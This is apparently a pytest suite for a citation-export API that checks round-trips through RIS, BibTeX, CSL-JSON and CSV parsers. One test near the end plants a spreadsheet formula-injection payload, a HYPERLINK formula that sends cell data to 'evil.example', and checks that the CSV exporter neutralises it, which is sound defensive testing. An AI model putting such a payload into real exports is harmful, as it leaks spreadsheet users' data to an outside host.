"""Citation exports read back by independent parsers: rispy, bibtexparser, the CSL-JSON schema, csv.DictReader."""

import csv
import io
import json
import re

import pytest

from articles.exports import bibtex_chunks
from articles.exports.csv import inert
from articles.models import Citation

from .export_readers import READERS, one_line, read_bibtex, read_csljson, read_csv, read_ris
from .factories import ArticleFactory, CitationFactory, ReviewFactory

pytestmark = pytest.mark.django_db

REVIEW_PMID = 34852849
FORMATS = ["ris", "bibtex", "csljson", "csv"]

# What each reference must read back as, by position, whatever the format.
EXPECTED = {
    1: {
        "authors": ["Müller, Anna", "O'Brien, Pat", "CAF Consortium"],
        "title": "β-catenin & Wnt: CAF exosomes <in vivo> at 50% dose",
        "doi": "10.1000/beta_cat.1",
        "pmid": "31000001",
        "pmcid": "PMC7000001",
        "journal": "Molecular Cancer",
        "volume": "21",
        "issue": "3",
        "pages": "123-45",
        "year": "2022",
        "abstract": "BACKGROUND: CAF-derived exosomes carry miR-21 & more. RESULTS: Cells grew faster.",
        "keywords": ["exosome", "β-catenin"],
    },
    2: {
        "authors": ["Exosome Study Group and Partners"],
        "title": "A group's study without a DOI",
        "doi": "",
        "pmid": "31000002",
        "pmcid": "",
        "journal": "Oncogene",
        "volume": "",
        "issue": "",
        "pages": "e1",
        "year": "2019",
        "abstract": "",
        "keywords": [],
    },
    3: {
        "authors": ["Tanaka, Y"],
        "title": "Tumour_suppressor {ALOX15} #1 costs $5 ~ 10",
        "doi": "10.1000/tex.3",
        "pmid": "31000003",
        "pmcid": "",
        "journal": "Cell",
        "volume": "7",
        "issue": "",
        "pages": "",
        "year": "2020",
        "abstract": "",
        "keywords": [],
    },
}
UNRESOLVED = {"title": "Smith J. Unpublished data on CAF exosomes. 2020.", "doi": "10.9999/unresolved.4"}


@pytest.fixture
def review():
    review = ReviewFactory(article=ArticleFactory(pmid=REVIEW_PMID, publication_types=["Review"]))
    rich = ArticleFactory(
        pmid=31000001,
        doi="10.1000/beta_cat.1",
        pmcid="PMC7000001",
        title="<i>β</i>-catenin &amp; Wnt: CAF exosomes &lt;in vivo&gt; at 50% dose",
        journal_title="Molecular Cancer",
        journal_iso="Mol Cancer",
        volume="21",
        issue="3",
        pages="123-45",
        pub_year=2022,
        pub_month=3,
        pub_day=7,
        authors=[
            {"last_name": "Müller", "fore_name": "Anna", "initials": "A"},
            {"last_name": "O'Brien", "fore_name": "Pat", "initials": "P"},
            {"collective_name": "CAF Consortium"},
        ],
        abstract=[
            {
                "label": "BACKGROUND",
                "category": "BACKGROUND",
                "text": "CAF-derived <i>exosomes</i> carry miR-21 &amp; more.",
            },
            {"label": "RESULTS", "category": "RESULTS", "text": "Cells grew faster."},
        ],
        keywords=["exosome", "β-catenin"],
        language="eng",
    )
    group = ArticleFactory(
        pmid=31000002,
        doi="",
        title="A group's study without a DOI",
        journal_title="Oncogene",
        journal_iso="",
        pages="e1",
        pub_year=2019,
        authors=[{"collective_name": "Exosome Study Group and Partners"}],
    )
    tex = ArticleFactory(
        pmid=31000003,
        doi="10.1000/tex.3",
        title="Tumour_suppressor {ALOX15} #1 costs $5 ~ 10",
        journal_title="Cell",
        journal_iso="",
        volume="7",
        pub_year=2020,
        authors=[{"last_name": "Tanaka", "initials": "Y"}],
    )
    for position, article in ((1, rich), (2, group), (3, tex)):
        CitationFactory(review=review, article=article, relation=Citation.Relation.REFERENCE, position=position)
    CitationFactory(
        review=review,
        article=None,
        relation=Citation.Relation.REFERENCE,
        position=4,
        citation_text=UNRESOLVED["title"],
        cited_doi=UNRESOLVED["doi"],
    )
    CitationFactory(review=review, article=ArticleFactory(pmid=32000001), relation=Citation.Relation.CITED_BY)
    CitationFactory(review=review, article=ArticleFactory(pmid=33000001), relation=Citation.Relation.SIMILAR, score=9)
    return review


def export(api_client, fmt: str, **params):
    response = api_client.get(f"/api/v1/reviews/{REVIEW_PMID}/export/", {"format": fmt, **params})
    assert response.status_code == 200, response.content
    return response, b"".join(response.streaming_content).decode("utf-8")


@pytest.mark.parametrize("fmt", FORMATS)
def test_references_read_back_the_same_in_every_format(api_client, review, fmt):
    response, text = export(api_client, fmt, relation="reference")
    records = READERS[fmt](text)
    assert sorted(records) == [1, 2, 3, 4], "every reference, in the review's positions"
    for position, expected in EXPECTED.items():
        got = records[position]
        for field, value in expected.items():
            if field == "abstract" and fmt in ("csljson", "csv"):
                got_value = one_line(got[field])  # these two keep one line per abstract section
            else:
                got_value = got[field]
            assert got_value == value, f"{fmt} reference {position}: {field}"
    assert records[4]["title"] == UNRESOLVED["title"] and records[4]["doi"] == UNRESOLVED["doi"]
    assert records[4]["authors"] == []


def test_structured_abstract_keeps_its_sections_on_lines_of_their_own(api_client, review):
    _, text = export(api_client, "csljson", relation="reference")
    first = next(item for item in json.loads(text) if item["citation-number"] == 1)
    assert first["abstract"].split("\n") == [
        "BACKGROUND: CAF-derived exosomes carry miR-21 & more.",
        "RESULTS: Cells grew faster.",
    ]
    assert first["author"][2] == {"literal": "CAF Consortium"}, "a group author is one literal name"
    assert first["issued"] == {"date-parts": [[2022, 3, 7]]}
    assert first["custom"] == {
        "relation": "reference",
        "position": 1,
        "review_pmid": REVIEW_PMID,
        "keywords": ["exosome", "β-catenin"],
    }


def test_formats_mark_the_position_and_the_type_as_importers_read_them(api_client, review):
    ris = read_ris(export(api_client, "ris", relation="reference")[1])
    assert ris[1]["type"] == "JOUR" and ris[4]["type"] == "GEN"
    assert ris[1]["note"] == "Reference 1 of review PMID 34852849"
    bib = read_bibtex(export(api_client, "bibtex", relation="reference")[1])
    assert (bib[1]["type"], bib[1]["key"], bib[4]["type"]) == ("article", "ref1", "misc")
    csl = read_csljson(export(api_client, "csljson", relation="reference")[1])
    assert (csl[1]["type"], csl[4]["type"]) == ("article-journal", "document")
    assert csl[1]["keyword"] == "exosome, β-catenin"
    rows = read_csv(export(api_client, "csv", relation="reference")[1])
    assert rows[2]["relation"] == "reference" and rows[2]["notes"] == "Reference 2 of review PMID 34852849"


def test_tex_special_characters_survive_a_bibtex_round_trip(review):
    citations = Citation.objects.filter(review=review, position=3).select_related("article")
    text = "".join(bibtex_chunks(citations, review_pmid=REVIEW_PMID))
    assert r"Tumour\_suppressor \{ALOX15\} \#1 costs \$5 \textasciitilde{} 10" in text
    assert read_bibtex(text)[3]["title"] == EXPECTED[3]["title"]


@pytest.mark.parametrize(
    ("params", "relations", "count"),
    [
        ({}, {"reference", "cited_by", "similar"}, 6),
        ({"relation": "cited_by"}, {"cited_by"}, 1),
        ({"relation": "reference", "resolved": "true"}, {"reference"}, 3),
        ({"relation": "reference", "resolved": "false"}, {"reference"}, 1),
    ],
)
def test_filters_apply_to_the_export(api_client, review, params, relations, count):
    _, text = export(api_client, "csv", **params)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == count
    assert {row["relation"] for row in rows} == relations


@pytest.mark.parametrize(
    ("fmt", "params", "media_type", "filename"),
    [
        ("ris", {"relation": "reference"}, "application/x-research-info-systems", "review-34852849-references.ris"),
        ("bibtex", {"relation": "cited_by"}, "application/x-bibtex", "review-34852849-cited-by.bib"),
        ("csljson", {"relation": "similar"}, "application/vnd.citationstyles.csl+json", "review-34852849-similar.json"),
        ("csv", {}, "text/csv", "review-34852849-citations.csv"),
    ],
)
def test_exports_are_attachments_with_a_sensible_name(api_client, review, fmt, params, media_type, filename):
    response, _ = export(api_client, fmt, **params)
    assert response["Content-Type"] == f"{media_type}; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


def test_the_accept_header_chooses_a_format_too(api_client, review):
    response = api_client.get(f"/api/v1/reviews/{REVIEW_PMID}/export/", HTTP_ACCEPT="application/x-bibtex")
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.bib"')


def test_bad_requests_answer_in_the_api_error_shape(api_client, review):
    url = f"/api/v1/reviews/{REVIEW_PMID}/export/"
    unknown = api_client.get(url, {"format": "docx"})
    assert unknown.status_code == 404 and unknown["Content-Type"] == "application/json"
    assert "docx" in unknown.json()["detail"] and "ris, bibtex, csljson, csv" in unknown.json()["errors"]["format"][0]
    unacceptable = api_client.get(url, HTTP_ACCEPT="application/pdf")
    assert unacceptable.status_code == 406 and set(unacceptable.json()) == {"detail"}
    bad_filter = api_client.get(url, {"format": "ris", "relation": "cousin"})
    assert bad_filter.status_code == 400 and "relation" in bad_filter.json()["errors"]
    missing = api_client.get("/api/v1/reviews/1/export/", {"format": "ris"})
    assert missing.status_code == 404 and missing.json() == {"detail": "No review with this PMID."}


def test_an_empty_list_is_still_a_valid_file(api_client, review):
    Citation.objects.filter(relation=Citation.Relation.SIMILAR).delete()
    _, text = export(api_client, "csljson", relation="similar")
    assert json.loads(text) == []
    _, text = export(api_client, "csv", relation="similar")
    assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 0


def test_the_review_page_offers_downloads_as_plain_links(client, review):
    page = client.get(f"/reviews/{REVIEW_PMID}/", {"tab": "cited_by"}).content.decode()
    menu = page[page.index('<details class="downloads">') : page.index("</details>")]
    for fmt in FORMATS:
        assert f"/api/v1/reviews/{REVIEW_PMID}/export/?format={fmt}&amp;relation=cited_by" in menu
    assert f"/api/v1/reviews/{REVIEW_PMID}/release/" in menu
    assert "<script" not in menu and "style=" not in menu and not re.search(r"\son\w+=", menu)
    link = re.search(r'href="([^"]+format=bibtex[^"]+)"', menu).group(1).replace("&amp;", "&")
    download = client.get(link)
    assert download.status_code == 200 and download["Content-Type"].startswith("application/x-bibtex")


def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(api_client, review):
    hostile = ArticleFactory(pmid=31000099, title='=HYPERLINK("http://evil.example/?x="&A1,"Click")', pages="-12")
    CitationFactory(review=review, article=hostile, relation=Citation.Relation.CITED_BY, citation_text="@SUM(A1:A9)")
    _, text = export(api_client, "csv", relation="cited_by")
    row = next(row for row in csv.DictReader(io.StringIO(text, newline="")) if row["pmid"] == "31000099")
    assert row["title"] == "'" + hostile.title
    assert row["cited_as"] == "'@SUM(A1:A9)"
    assert row["pages"] == "-12"  # a number is shown, never run: left as it is


@pytest.mark.parametrize(
    ("cell", "written"),
    [("-1.5", "-1.5"), ("+7", "+7"), ("-", "'-"), ("=1+1", "'=1+1"), ("\tx", "'\tx"), ("a=b", "a=b"), ("", "")],
)
def test_only_cells_that_start_like_a_formula_change(cell, written):
    assert inert(cell) == written
